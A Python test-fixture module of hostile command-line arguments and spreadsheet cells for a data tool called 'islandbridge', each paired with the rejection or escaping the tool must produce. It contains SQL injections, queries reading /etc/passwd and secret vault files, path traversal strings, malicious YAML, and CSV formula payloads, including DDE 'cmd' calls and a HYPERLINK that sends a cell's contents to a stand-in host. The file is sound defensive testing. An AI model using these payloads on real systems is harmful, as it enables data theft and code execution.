"""Hostile command lines and exported cells, as data.

``CLI``: arguments an operator's typo or an attacker could pass to ``islandbridge`` — as-of extremes,
SQL that reaches for files, run ids and names that traverse paths, configuration files that are not
configuration. Each states the exit status and a fragment of the one-line error (``{home}`` is the
case's project folder). ``CELLS``: text a source could hand to a department's spreadsheet, with the
text the exported CSV must hold.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.hostile.corpus import Expect, accepted, error


@dataclass(frozen=True)
class CliCase:
    id: str
    argv: tuple[str, ...]  # after the command name; "{config}" and "{home}" are filled in
    expect: Expect


def _as_of(
    kind: str, value: str, command: str = "export", status: int = 2, pattern: str = "as-of"
) -> CliCase:
    return CliCase(
        f"as_of_{command}_{kind}",
        (command, "--config", "{config}", "--as-of", value),
        error(None, pattern, status),
    )


AS_OF = [
    _as_of("year_9999", "9999-12-31"),
    _as_of("year_0001_iso_time", "0001-01-01T00:00:00+14:00"),
    _as_of("feb_30", "2026-02-30"),
    _as_of("sql", "2026-11-20; DROP TABLE core.persons"),
    _as_of("traversal", "../../etc"),
    _as_of("empty", ""),
    _as_of("fullwidth", "２０２６-１１-２０"),
    _as_of("arabic_indic", "٢٠٢٦-١١-٢٠"),
    _as_of("hour_25", "2026-11-20T25:00"),
    _as_of("zone_99", "2026-11-20T00:00+99:00"),
    _as_of("number", "1e20"),
    _as_of("negative", "-1"),
    _as_of("nan", "NaN"),
    _as_of("month_only", "2026-11"),
    _as_of("year_9999", "9999-12-31", command="build"),
    _as_of("year_9999", "9999-12-31", command="publish"),
    _as_of("year_9999", "9999-12-31", command="reconcile", status=2, pattern="as-of|configuration problem"),
]

_REFUSED = "query refused"
SQL = [
    CliCase(f"sql_{kind}", ("sql", "--config", "{config}", query), error(None, pattern, 2))
    for kind, query, pattern in (
        ("read_text_keys", "SELECT * FROM read_text('{home}/secrets/vault.keys')", _REFUSED),
        ("replacement_scan_file", "SELECT * FROM '{home}/secrets/vault.keys'", _REFUSED + "|query failed"),
        ("replacement_scan_passwd", "FROM '/etc/passwd'", _REFUSED + "|query failed"),
        ("read_json", "SELECT * FROM read_json_auto('/etc/hostname')", _REFUSED),
        ("glob_secrets", "SELECT * FROM glob('{home}/secrets/*')", _REFUSED),
        ("copy_to_audit", "COPY core.persons TO '{home}/private/audit.jsonl'", _REFUSED),
        ("copy_hidden_by_comment", "/* report */ COPY core.persons TO '{home}/x.csv'", _REFUSED),
        ("attach_vault", "ATTACH '{home}/private/vault.duckdb' AS v", _REFUSED),
        ("detach", "DETACH warehouse", _REFUSED + "|query failed"),
        ("install", "INSTALL httpfs", _REFUSED),
        ("set_external_access", "SET enable_external_access = true", _REFUSED),
        ("reset_lock", "RESET lock_configuration", _REFUSED + "|query failed"),
        ("pragma", "PRAGMA enable_external_access", _REFUSED + "|query failed"),
        ("create_table", "CREATE TABLE core.x AS SELECT 1", _REFUSED + "|query failed"),
        ("drop_table", "DROP TABLE core.persons", _REFUSED + "|query failed"),
        ("two_statements", "SELECT 1; SELECT 2", "one statement"),
        (
            "comment_then_copy",
            "SELECT 1 -- \n; COPY core.persons TO '{home}/y.csv'",
            _REFUSED + "|one statement",
        ),
        ("fullwidth_select", "ＳＥＬＥＣＴ 1", "query failed|" + _REFUSED),
        ("empty", "", "query|statement"),
        ("unknown_table_traversal", 'SELECT * FROM "../../etc/passwd"', "query failed|" + _REFUSED),
    )
] + [
    CliCase(
        "sql_plain_select", ("sql", "--config", "{config}", "SELECT count(*) FROM core.persons"), accepted()
    ),
    CliCase(
        "sql_getenv",
        ("sql", "--config", "{config}", "SELECT getenv('IB_SECRET_PROBE')"),
        error(None, "query", 2),
    ),
]

TRAVERSAL = [
    CliCase(
        "run_id_snapshot_rollback",
        ("snapshot", "rollback", "--config", "{config}", "--run", "../../etc"),
        error(None, "", None),
    ),
    CliCase(
        "run_id_quarantine_list",
        ("quarantine", "list", "--config", "{config}", "--run", "../../etc"),
        accepted(),
    ),
    CliCase(
        "source_extract",
        ("extract", "--config", "{config}", "--as-of", "2026-11-20", "--source", "../../etc"),
        error(None, "", 2),
    ),
    CliCase(
        "source_sql_quote",
        ("extract", "--config", "{config}", "--as-of", "2026-11-20", "--source", "x'; DROP TABLE y;--"),
        error(None, "", 2),
    ),
    CliCase("config_missing", ("sql", "--config", "{home}/nope.yml", "SELECT 1"), error(None, "", 2)),
    CliCase("config_is_dir", ("sql", "--config", "{home}", "SELECT 1"), error(None, "", 2)),
    CliCase("config_dev_null", ("sql", "--config", "/dev/null", "SELECT 1"), error(None, "", 2)),
    CliCase(
        "config_binary",
        ("sql", "--config", "{home}/warehouse/warehouse.duckdb", "SELECT 1"),
        error(None, "", 2),
    ),
    CliCase(
        "config_yaml_python_tag",
        ("sql", "--config", "{home}/python.yml", "SELECT 1"),
        error(None, "not valid YAML", 2),
    ),
    CliCase("config_yaml_bomb", ("sql", "--config", "{home}/bomb.yml", "SELECT 1"), error(None, "", 2)),
    CliCase(
        "config_traversal_paths", ("sql", "--config", "{home}/escape.yml", "SELECT 1"), error(None, "", 2)
    ),
]

CASES = [*AS_OF, *SQL, *TRAVERSAL]

# text in a mart -> the CSV cell the department receives
CELLS = [
    ("dde", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3", "'-2+3"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1", "'\t=1+1"),
    ("carriage_return", "\r=1+1", "'\r=1+1"),
    ("hyperlink", '=HYPERLINK("http://x.invalid?"&A1,"点我")', '\'=HYPERLINK("http://x.invalid?"&A1,"点我")'),
    ("already_quoted", "'=1+1", "'=1+1"),
    ("inner_equals", "a=1+1", "a=1+1"),
    ("chinese", "张三", "张三"),
    ("digits_18", "511403194510310077", '="511403194510310077"'),
    ("digits_leading_zero", "02812345678", '="02812345678"'),
    ("bidi", "\u202e=1+1", "\u202e=1+1"),
]
